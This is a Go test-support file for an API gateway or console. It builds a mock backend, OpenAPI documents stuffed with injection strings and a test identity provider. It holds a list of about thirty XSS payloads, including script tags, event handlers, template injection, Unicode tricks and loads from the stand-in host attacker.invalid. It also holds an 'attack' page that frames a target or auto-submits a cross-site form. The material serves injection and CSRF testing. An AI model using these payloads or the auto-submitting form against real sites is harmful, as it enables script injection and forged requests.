package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"

	"drawbridge/auth/authtest"
)

// marker is in each payload. A page that runs one sets the variable of that name.
const marker = "xssmark"

// payloads try to leave the text that they stand in.
var payloads = []string{
	`<script>window.xssmark=1</script>`,
	`<img src=x onerror="window.xssmark=1">`,
	`"><svg onload="window.xssmark=1">`,
	`'><body onload='window.xssmark=1'>`,
	`<iframe srcdoc="<script>parent.xssmark=1</script>"></iframe>`,
	`<a href="javascript:window.xssmark=1" id="xssmark">x</a>`,
	`[link](javascript:window.xssmark=1)`,
	`</title><script>window.xssmark=1</script>`,
	`</textarea><script>window.xssmark=1</script>`,
	`</code></pre><script>window.xssmark=1</script>`,
	`</script><script>window.xssmark=1</script>`,
	`--><script>window.xssmark=1</script><!--`,
	`]]><script>window.xssmark=1</script>`,
	`{{constructor.constructor('window.xssmark=1')()}}`,
	`${window.xssmark=1}`,
	`<div hx-get="http://attacker.invalid/xssmark" hx-trigger="load"></div>`,
	`<div data-hx-on:load="window.xssmark=1"></div>`,
	`" autofocus onfocus="window.xssmark=1" x="`,
	`' autofocus onfocus='window.xssmark=1' x='`,
	"` onmouseover=window.xssmark=1 x=`",
	`<meta http-equiv="refresh" content="0;url=http://attacker.invalid/xssmark">`,
	`<base href="http://attacker.invalid/xssmark/">`,
	`<form action="http://attacker.invalid/xssmark"><button>x</button></form>`,
	`<link rel="stylesheet" href="http://attacker.invalid/xssmark.css">`,
	`<style>@import "http://attacker.invalid/xssmark.css";</style>`,
	`<object data="http://attacker.invalid/xssmark"></object>`,
	`<math><mtext><script>window.xssmark=1</script></mtext></math>`,
	`<input type="hidden" name="csrf" value="xssmark">`,
	"\u003cscript\u003ewindow.xssmark=1\u003c/script\u003e",
	"<scr\u200bipt>window.xssmark=1</scr\u200bipt>",
	"\u202e<img src=x onerror=window.xssmark=1>\u202c",
	`&lt;script&gt;window.xssmark=1&lt;/script&gt;`,
}

// service is the service behind the gateways. It counts the calls that arrive.
type service struct {
	*httptest.Server
	calls  atomic.Int64
	shrunk atomic.Bool // the document of stock lacks most operations
}

func newService() *service {
	s := &service{}
	s.Server = httptest.NewServer(http.HandlerFunc(s.serve))
	return s
}

func (s *service) serve(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	switch path := r.URL.Path; {
	case path == "/calls":
		fmt.Fprint(w, s.calls.Load())
		return
	case path == "/attack": // a page of another site
		s.attack(w, r)
		return
	case path == "/orders.json":
		fmt.Fprint(w, ordersDocument)
		return
	case path == "/stock.json":
		fmt.Fprint(w, stockDocument(s.shrunk.Load()))
		return
	case path == "/lost.json":
		http.NotFound(w, r)
		return
	case path == "/hostile.json":
		w.Write(hostileDocument())
		return
	case strings.HasPrefix(path, "/hostile/"):
		s.calls.Add(1)
		w.Header().Set("X-Note", payloads[0])
		if strings.HasSuffix(path, "/0") {
			w.WriteHeader(http.StatusInternalServerError)
		}
		json.NewEncoder(w).Encode(map[string]any{payloads[0]: payloads})
		return
	}
	s.calls.Add(1)
	if strings.HasSuffix(r.URL.Path, "/missing") {
		w.WriteHeader(http.StatusNotFound)
		fmt.Fprint(w, `{"message": "there is no such order"}`)
		return
	}
	w.Header().Set("X-Request-Token", r.Header.Get("Authorization"))
	fmt.Fprintf(w, `{"id": "SO 1001", "state": "open", "items": [{"sku": "ROPE-12", "count": 3}], "echo": %q}`, r.Header.Get("Authorization"))
}

// attack is a page that frames the page of the query parameter frame, or sends a form to that of the parameter form.
func (s *service) attack(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html")
	if frame := r.URL.Query().Get("frame"); frame != "" {
		fmt.Fprintf(w, `<!doctype html><link rel=icon href=data:,><iframe id=f src=%q></iframe>`, frame)
		return
	}
	fmt.Fprintf(w, `<!doctype html><link rel=icon href=data:,><form id=f method=post action=%q><input name=use value=json><input name=arguments value='{"id":"1"}'></form><script>f.submit()</script>`, r.URL.Query().Get("form"))
}

const ordersDocument = `{"openapi": "3.1.0", "info": {"title": "Orders", "version": "2.4.0"}, "tags": [{"name": "orders"}],
"paths": {
 "/orders": {
  "get": {"operationId": "listOrders", "summary": "List orders", "tags": ["orders"], "parameters": [
   {"name": "state", "in": "query", "schema": {"enum": ["open", "shipped", "cancelled"]}}, {"name": "limit", "in": "query", "schema": {"type": "integer", "default": 20}}],
   "responses": {"200": {"description": "ok", "content": {"application/json": {"schema": {"type": "object"}}}}}},
  "post": {"operationId": "createOrder", "summary": "Create an order", "tags": ["orders"], "requestBody": {"required": true, "content": {"application/json": {"schema": {
   "type": "object", "required": ["customer", "items"], "properties": {"customer": {"type": "string", "description": "Number of the customer"}, "express": {"type": "boolean"}, "priority": {"enum": ["low", "normal", "high"]},
   "items": {"type": "array", "items": {"type": "object", "properties": {"sku": {"type": "string"}, "count": {"type": "integer"}}}}}}}}},
   "responses": {"200": {"description": "ok", "content": {"application/json": {"schema": {"type": "object"}}}}}}},
 "/orders/{id}": {
  "get": {"operationId": "getOrder", "summary": "Read one order", "description": "Returns an order with its items.", "tags": ["orders"], "parameters": [
   {"name": "expand", "in": "query", "description": "Adds what is named", "schema": {"enum": ["customer", "items"]}}, {"name": "id", "in": "path", "required": true, "description": "Number of the order", "example": "SO 1001", "schema": {"type": "string"}}],
   "responses": {"200": {"description": "ok", "content": {"application/json": {"schema": {"type": "object"}}}}}},
  "delete": {"operationId": "deleteOrder", "summary": "Delete an order", "tags": ["orders"], "parameters": [{"name": "id", "in": "path", "required": true, "schema": {"type": "string"}}],
   "responses": {"204": {"description": "gone"}}}}}}`

// stockDocument returns a document with six operations, or with one of them, whose calls need a credential.
func stockDocument(shrunk bool) string {
	var paths []string
	for i := range 6 {
		if !shrunk || i == 0 {
			paths = append(paths, fmt.Sprintf(`"/stock/%d": {"get": {"operationId": "stock%d", "responses": {"200": {"description": "ok"}}}}`, i, i))
		}
	}
	return `{"openapi": "3.1.0", "info": {"title": "Stock", "version": "1"}, "security": [{"key": []}],
"components": {"securitySchemes": {"key": {"type": "apiKey", "in": "header", "name": "X-Key"}}}, "paths": {` + strings.Join(paths, ",") + "}}"
}

// hostileDocument returns a document with a payload in each text that a page may show.
func hostileDocument() []byte {
	paths := map[string]any{}
	for i, p := range payloads {
		paths[fmt.Sprintf("/hostile/%d", i)] = map[string]any{"post": map[string]any{
			"operationId": "op" + p, "summary": p, "description": p + "\n\n" + p, "tags": []string{p}, "x-note": p,
			"parameters": []any{
				map[string]any{"name": "q" + p, "in": "query", "description": p, "example": p, "schema": map[string]any{"type": "string", "default": p, "title": p}},
				map[string]any{"name": "choice", "in": "query", "description": p, "schema": map[string]any{"enum": payloads}},
				map[string]any{"name": "list", "in": "query", "description": p, "schema": map[string]any{"type": "array", "items": map[string]any{"type": "string", "pattern": p}, "default": []string{p}}},
			},
			"responses": map[string]any{"200": map[string]any{"description": p, "content": map[string]any{"application/json": map[string]any{"schema": map[string]any{"type": "object", "properties": map[string]any{p: map[string]any{"type": "array", "description": p}}}}}}},
		}}
	}
	long := strings.Repeat("longestName", 6)[:64]
	paths["/"+long+"/{"+long+"}"] = map[string]any{"get": map[string]any{
		"operationId": long, "summary": long, "tags": []string{long}, "responses": map[string]any{"200": map[string]any{"description": long}},
		"parameters": []any{map[string]any{"name": long, "in": "path", "required": true, "example": long, "schema": map[string]any{"type": "string"}}},
	}}
	paths["/skipped/"+payloads[0]] = map[string]any{"get": map[string]any{"parameters": []any{map[string]any{"name": payloads[1], "in": payloads[2]}}, "responses": map[string]any{}}}
	text, err := json.Marshal(map[string]any{
		"openapi": "3.1.0", "info": map[string]any{"title": payloads[0], "version": payloads[1], "description": payloads[2]}, "paths": paths,
		"tags": []any{map[string]any{"name": payloads[0], "description": payloads[1]}},
	})
	if err != nil {
		panic(err)
	}
	return text
}

// newIdentityProvider starts the authorization server for development.
func newIdentityProvider() (*authtest.Server, error) {
	return authtest.Start(authtest.Options{
		Subject: "mia", AutoConsent: true, DefaultResource: "https://console.example",
		Clients: []authtest.Client{{ID: "console", Secret: clientSecret, RedirectURIs: []string{"http://127.0.0.1/console/signin/callback"}}},
	})
}
